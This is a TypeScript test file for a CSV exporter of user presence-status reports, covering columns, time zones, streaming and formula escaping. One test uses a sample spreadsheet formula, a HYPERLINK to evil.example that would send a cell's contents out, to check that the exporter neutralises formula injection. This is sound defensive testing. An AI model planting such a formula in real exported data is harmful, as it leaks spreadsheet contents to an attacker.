import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../errors.ts';
import type { Effect } from '../machine/index.ts';
import { memoryStore } from '../store/index.ts';
import { buildReport, reportRows } from './build.ts';
import { CSV_COLUMNS, hms, isoInZone, toCsv, toCsvStream } from './csv.ts';

const MIN = 60_000;
const T0 = Date.UTC(2026, 2, 29, 6); // 2026-03-29 08:00 in Berlin, just after the clocks went forward

async function sample() {
  const store = memoryStore();
  await store.upsertUsers([
    { key: 'jane', id: 'jane', severity: 0, displayName: 'Doe, Jane' },
    { key: 'max', id: 'max', severity: 0 },
  ]);
  const run = await store.startRun(new Date(T0));
  const at = (m: number) => new Date(T0 + m * MIN);
  const effects: Effect[] = [
    { type: 'interval.open', userId: 'jane', status: 'available', startedAt: at(0) },
    { type: 'session.open', userId: 'jane', startedAt: at(0) },
    { type: 'interval.close', userId: 'jane', endedAt: at(90) },
    { type: 'interval.open', userId: 'jane', status: 'busy', startedAt: at(90) },
    { type: 'interval.close', userId: 'jane', endedAt: at(125) },
    { type: 'interval.open', userId: 'jane', status: 'offline', startedAt: at(125) },
    {
      type: 'session.close',
      userId: 'jane',
      startedAt: at(0),
      endedAt: at(125),
      lastSeenAt: at(125),
      reason: 'offline',
    },
    { type: 'interval.close', userId: 'jane', endedAt: at(130.5) },
  ];
  await store.writePoll({ runId: run.id, at: at(0), samples: [], effects });
  return buildReport({
    store,
    from: new Date(Date.UTC(2026, 2, 28, 23)),
    to: new Date(Date.UTC(2026, 2, 30, 22)),
    timeZone: 'Europe/Berlin',
    now: at(1000),
  });
}

const lines = (csv: string) => csv.trimEnd().split('\n');

async function collect(readable: NodeJS.ReadableStream) {
  let text = '';
  await pipeline(
    readable,
    new Writable({
      write(chunk, _encoding, done) {
        text += chunk.toString();
        done();
      },
    }),
  );
  return text;
}

describe('toCsv', () => {
  it('writes the documented columns, days then the total for each user', async () => {
    const csv = toCsv(await sample());
    const [header, ...rows] = lines(csv);
    expect(header).toBe(CSV_COLUMNS.join(','));
    expect(new Set(CSV_COLUMNS).size).toBe(CSV_COLUMNS.length);
    expect(header).toContain(
      ',unobserved_s,unobserved_hms,status_available_s,status_available_hms,status_busy_s,',
    );
    expect(rows).toHaveLength(6);
    expect(rows.map((r) => r.split(',')[0])).toEqual(['jane', 'jane', 'jane', 'max', 'max', 'max']);
    const jane = rows[0]!;
    // The display name is quoted because it holds the delimiter.
    expect(
      jane.startsWith('jane,"Doe, Jane",2026-03-29,2026-03-29T00:00:00+01:00,2026-03-30T00:00:00+02:00,'),
    ).toBe(true);
    // Observed 130.5 minutes; the day has 23 hours. Then the time in each status.
    expect(jane).toContain(
      ',7830,02:10:30,5400,01:30:00,2430,00:40:30,74970,20:49:30,5400,01:30:00,2100,00:35:00,0,00:00:00,0,00:00:00,330,00:05:30,0,00:00:00,',
    );
    expect(jane).toContain(
      ',1,2026-03-29T08:00:00+02:00,2026-03-29T10:10:30+02:00,2430,00:40:30,2026-03-29T09:30:00+02:00/2026-03-29T10:10:30+02:00',
    );
    const janeTotal = rows[2]!.split('"')[2]!.split(',');
    expect(janeTotal.slice(1, 4)).toEqual(['', '2026-03-29T00:00:00+01:00', '2026-03-31T00:00:00+02:00']);
    // 47 hours of range minus what was observed, and the hours do not wrap at 24.
    expect(rows[5]).toContain(',0,00:00:00,0,00:00:00,0,00:00:00,169200,47:00:00,');
  });

  it('leaves out the header or the totals on request', async () => {
    const report = await sample();
    expect(lines(toCsv(report, { header: false, totals: false }))).toHaveLength(4);
    expect(toCsv(report, { delimiter: ';' }).split('\n')[0]).toContain('user_id;display_name;day');
  });

  it("writes a display name that starts like a formula as text, with a ' before it, unless told not to; ids as they are", async () => {
    const report = await sample();
    const named = (displayName: string) => ({
      ...report,
      users: report.users.map((u) => (u.id === 'jane' ? { ...u, displayName } : u)),
    });
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Jane")';
    const jane = (csv: string) => lines(csv).find((l) => l.startsWith('jane,'))!;
    expect(jane(toCsv(named(formula)))).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")",`);
    for (const start of ['+', '-', '@']) expect(jane(toCsv(named(`${start}1`)))).toContain(`,'${start}1,`);
    expect(jane(toCsv(named('Jane =1')))).toContain(',Jane =1,');
    // Ids are not names: they stay as the store has them, even when they start like a formula.
    const dashed = (id: string) => (id === 'jane' ? '-jane' : id);
    const ids = {
      ...named(formula),
      rows: report.rows.map((r) => ({ ...r, userId: dashed(r.userId) })),
      totals: report.totals.map((r) => ({ ...r, userId: dashed(r.userId) })),
      users: report.users.map((u) => ({ ...u, id: dashed(u.id), displayName: '-Jane' })),
    };
    expect(lines(toCsv(ids)).find((l) => l.startsWith('-jane,'))).toContain(`-jane,'-Jane,`);
    expect(jane(toCsv(named(formula), { escapeFormulas: false }))).toContain(',"=HYPERLINK(');
    expect(await collect(toCsvStream(named(formula)))).toBe(toCsv(named(formula)));
  });

  it('formats durations and instants', () => {
    expect(hms(0)).toBe('00:00:00');
    expect(hms(90 * 3600_000 + 61_999)).toBe('90:01:01');
    expect(isoInZone(new Date(Date.UTC(2026, 10, 1, 5, 30)), 'America/New_York')).toBe(
      '2026-11-01T01:30:00-04:00',
    );
    expect(isoInZone(new Date(Date.UTC(2026, 10, 1, 6, 30, 0, 250)), 'America/New_York')).toBe(
      '2026-11-01T01:30:00.250-05:00',
    );
  });
});

describe('toCsvStream', () => {
  it('streams exactly what toCsv writes, from a report or from reportRows', async () => {
    const report = await sample();
    expect(await collect(toCsvStream(report))).toBe(toCsv(report));
    const q = {
      store: memoryStore(),
      from: report.from,
      to: report.to,
      timeZone: report.timeZone,
      userIds: ['a', 'b'],
      now: report.to,
    };
    const fromRows = await collect(toCsvStream(reportRows(q), { timeZone: report.timeZone }));
    expect(fromRows).toBe(toCsv(await buildReport(q)));
  });

  it('needs a time zone for bare rows and passes on the source failing', async () => {
    expect(() => toCsvStream([])).toThrow(ConfigError);
    async function* failing() {
      yield* [];
      throw new Error('store went away');
    }
    await expect(collect(toCsvStream(failing(), { timeZone: 'UTC' }))).rejects.toThrow('store went away');
  });
});
